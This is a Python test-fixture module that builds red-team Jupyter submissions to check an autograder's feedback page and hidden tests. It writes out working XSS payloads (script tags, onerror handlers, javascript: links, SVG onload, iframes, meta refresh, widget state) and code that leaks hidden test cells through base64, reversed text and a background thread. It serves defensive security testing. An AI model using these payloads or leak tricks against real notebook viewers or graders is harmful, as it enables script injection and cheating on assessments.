"""Red-team submissions against the feedback page and the graded notebook (issue 10, item 2).

Each submission is the honest, right 01_perceptron submission (``redteam_cases``) carrying
payloads of one class (``Payload.student``): active content in the written answer, in other
markdown or raw cells, in outputs (``_repr_html_``, ``display(HTML(...))``, image metadata,
widget state), or code that puts the hidden tests into an output, in some encoding, after
they ran. A script that runs names its payload: it sets ``window.pwned`` and
``document.title`` and asks for ``PROBE/<payload>``, a URL on a listener the test starts on
127.0.0.1.
"""
from __future__ import annotations

import base64
import dataclasses
from typing import Callable

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

from redteam_cases import honest_answers, _index
from nbgrading import fill

# a 1x1 PNG
PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")


def script(case: str, probe: str) -> str:
    """JavaScript that shows it ran (single quotes only: it goes into HTML attributes too)."""
    return (f"window.pwned='{case}';document.title='PWNED {case}';"
            f"fetch('{probe}/{case}').catch(function(){{}});new Image().src='{probe}/{case}/img'")


def _written_answer(nb, text: str) -> None:
    """Add ``text`` to the written answer (after the honest answer)."""
    nb.cells[_index(nb, "xor-answer")].source += "\n\n" + text


def _after_setup(nb, code: str) -> None:
    nb.cells.insert(_index(nb, "setup") + 1, new_code_cell(code))


def answer_script(nb, js, probe):
    _written_answer(nb, f"One straight line cannot split XOR.\n\n<script>{js}</script>\n")


def answer_onerror(nb, js, probe):
    _written_answer(nb, f'One line is not enough. <img src="x" onerror="{js}"> <b onmouseover="{js}">hover</b>')


def answer_iframe(nb, js, probe):
    _written_answer(nb, f'<iframe srcdoc="<script>{js}</script>"></iframe>\n<iframe src="javascript:{js}"></iframe>'
                        f'\n<object data="javascript:{js}"></object><embed src="{probe}/embed">')


def answer_js_link(nb, js, probe):
    _written_answer(nb, f"[my proof](javascript:{js}) and [another][p] and <a href=\"javascript:{js}\">a third</a>"
                        f"\n\n[p]: javascript:{js}\n")


def answer_svg(nb, js, probe):
    _written_answer(nb, f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"><script>{js}</script>'
                        f'<foreignObject><img src="x" onerror="{js}"/></foreignObject></svg>')


def answer_mermaid(nb, js, probe):
    _written_answer(nb, f'```mermaid\n<img src="x" onerror="{js}">\n```\n\n$$\\href{{javascript:{js}}}{{x}}$$')


def answer_attachment(nb, js, probe):
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"><script>{js}</script></svg>'
    _written_answer(nb, "See the figure: ![figure](attachment:proof.svg) ![other](attachment:proof.png)")
    nb.cells[_index(nb, "xor-answer")].attachments = {
        "proof.svg": {"image/svg+xml": base64.b64encode(svg.encode()).decode()},
        "proof.png": {"image/png": f'x" onerror="{js}'}}


def edited_markdown(nb, js, probe):
    """The assignment's own text edited, and a markdown cell added, loading remote things."""
    nb.cells[0].source += f'\n\n<img src="x" onerror="{js}">'
    nb.cells.insert(2, new_markdown_cell(
        f'<style>body {{ background: url("{probe}/css") }}</style>\n<link rel="stylesheet" href="{probe}/link">\n'
        f'<base href="{probe}/base/">\n<form action="{probe}/form"><button>send</button></form>\n'
        f'<img src="{probe}/remote-img">'))


def meta_refresh(nb, js, probe):
    nb.cells.insert(2, new_markdown_cell(f'<meta http-equiv="refresh" content="0;url={probe}/refresh">'))


def raw_cell(nb, js, probe):
    nb.cells.insert(_index(nb, "setup") + 1, new_raw_cell(f'<script>{js}</script><img src="x" onerror="{js}">'))


def repr_methods(nb, js, probe):
    _after_setup(nb, f'''class Shiny:
    """An object that displays itself richly."""

    def _repr_html_(self):
        return """<img src="x" onerror="{js}"><script>{js}</script>"""

    def _repr_javascript_(self):
        return """{js}"""

    def _repr_svg_(self):
        return """<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"><script>{js}</script></svg>"""

    def _repr_markdown_(self):
        return """<img src="x" onerror="{js}"> [link](javascript:{js})"""

    def _repr_latex_(self):
        return r"$\\href{{javascript:{js}}}{{x}}$"


display(Shiny())
Shiny()''')


def display_objects(nb, js, probe):
    _after_setup(nb, f'''from IPython.display import HTML, SVG, IFrame, Javascript, Markdown, display

display(HTML("""<img src="x" onerror="{js}"><script>{js}</script>"""))
display(Javascript("""{js}"""))
display(SVG("""<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"><script>{js}</script></svg>"""))
display(IFrame("javascript:{js}", 100, 100))
display(Markdown("""<img src="x" onerror="{js}">"""))
display({{"text/html": """<script>{js}</script>""", "application/javascript": """{js}"""}}, raw=True)''')


def image_metadata(nb, js, probe):
    _after_setup(nb, f'''from IPython.display import display

display({{"image/png": "{PNG}"}}, metadata={{"image/png": {{"width": "1 onerror={js}", "height": "1"}}}}, raw=True)
display({{"image/png": """x" onerror="{js}"""}}, raw=True)
display({{"image/png": "{PNG}"}}, metadata={{"filenames": {{"image/png": "{probe}/filename"}}}}, raw=True)''')


def widget_state(nb, js, probe):
    _after_setup(nb, f'''from ipykernel.comm import Comm
from IPython.display import display

state = {{"_model_name": "HTMLModel", "_model_module": "@jupyter-widgets/controls", "_model_module_version": "2.0.0",
         "_view_name": "HTMLView", "_view_module": "@jupyter-widgets/controls", "_view_module_version": "2.0.0",
         "value": """<img src="x" onerror="{js}">"""}}
comm = Comm(target_name="jupyter.widget", data={{"state": state, "buffer_paths": []}},
            metadata={{"version": "2.1.0"}})
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": comm.comm_id, "version_major": 2,
                                                          "version_minor": 0}}}}, raw=True)''')


def _at_end(nb, code: str) -> None:
    nb.cells.append(new_code_cell(code))


def leak_reversed(nb, js, probe):
    _at_end(nb, 'print("\\n".join(In)[::-1])')


def leak_base64(nb, js, probe):
    answers = honest_answers("right")
    nb.cells[_index(nb, "predict")].source = (
        "import base64\n\n" + answers["predict"].replace(
            "def predict(X, w, b):", "def predict(X, w, b):\n    print(base64.b64encode(In[-1].encode()).decode())", 1))
    _at_end(nb, 'import base64\nprint(base64.b64encode("\\n".join(In).encode()).decode())')


def leak_update_display(nb, js, probe):
    """A display made before the hidden tests, changed after them to show them (base64 and reversed)."""
    _after_setup(nb, 'from IPython.display import display, update_display\n\ndisplay("waiting", display_id="rt-leak")\n'
                     'display("waiting too", display_id="rt-leak-2")')
    _at_end(nb, 'import base64\nsecret = "\\n".join(In)\n'
                'update_display(base64.b64encode(secret.encode()).decode(), display_id="rt-leak")\n'
                'display(secret[::-1], display_id="rt-leak-2")')


def leak_thread(nb, js, probe):
    """A thread started before the hidden tests prints the cell that runs, later, in base64."""
    _after_setup(nb, '''import base64
import threading
import time


def _spy():
    for _ in range(200):
        time.sleep(0.2)
        print(base64.b64encode(In[-1].encode()).decode())


threading.Thread(target=_spy, daemon=True).start()''')


@dataclasses.dataclass(frozen=True)
class Payload:
    id: str  # also the name its script gives itself
    attack: str
    change: Callable  # (notebook, script, probe URL) -> None, in place
    student: str  # the submission that carries it (payloads that can share one do)


PAYLOADS = [
    *(Payload(*fields, "written_answer") for fields in [
        ("answer_script", "<script> in the written answer", answer_script),
        ("answer_onerror", "<img onerror> and onmouseover in the written answer", answer_onerror),
        ("answer_iframe", "iframes (srcdoc, javascript:), object and embed in the written answer", answer_iframe),
        ("answer_js_link", "javascript: links, inline, by reference and as <a>", answer_js_link),
        ("answer_svg", "SVG with onload, <script> and foreignObject in the written answer", answer_svg),
        ("answer_mermaid", "a mermaid block (nbconvert copies it unescaped) and \\href in maths", answer_mermaid),
        ("answer_attachment", "attachments: an SVG with scripts, a 'PNG' that breaks out of src", answer_attachment)]),
    Payload("edited_markdown", "the assignment's text edited; a cell with style, link, base, form, remote img",
            edited_markdown, "other_cells"),
    Payload("raw_cell", "a raw cell (nbconvert copies it into the page as HTML)", raw_cell, "other_cells"),
    Payload("meta_refresh", "a markdown cell with a meta refresh to elsewhere", meta_refresh, "meta_refresh"),
    *(Payload(*fields, "rich_outputs") for fields in [
        ("repr_methods", "_repr_html_/_javascript_/_svg_/_markdown_/_latex_ outputs", repr_methods),
        ("display_objects", "display(HTML/Javascript/SVG/IFrame/Markdown) and raw mime bundles", display_objects),
        ("image_metadata", "image width metadata and image data that break out of <img>", image_metadata),
        ("widget_state", "a widget comm: state in the notebook's metadata, a widget view output", widget_state)]),
    *(Payload(*fields, "leaks") for fields in [
        ("leak_reversed", 'a last cell print("\\n".join(In)[::-1])', leak_reversed),
        ("leak_base64", "base64 of In by the last cell and by an answer each time it is called", leak_base64),
        ("leak_update_display", "a display shown early, updated after the hidden tests with them",
         leak_update_display),
        ("leak_thread", "a thread started early prints each running cell in base64", leak_thread)]),
]


STUDENTS = sorted({payload.student for payload in PAYLOADS})


def submission(student: str, released: nbformat.NotebookNode, probe: str) -> nbformat.NotebookNode:
    """The honest right submission with the payloads of ``student`` in it."""
    nb = fill(released, honest_answers("right"))
    for payload in PAYLOADS:
        if payload.student == student:
            payload.change(nb, script(payload.id, probe), probe)
    return nb
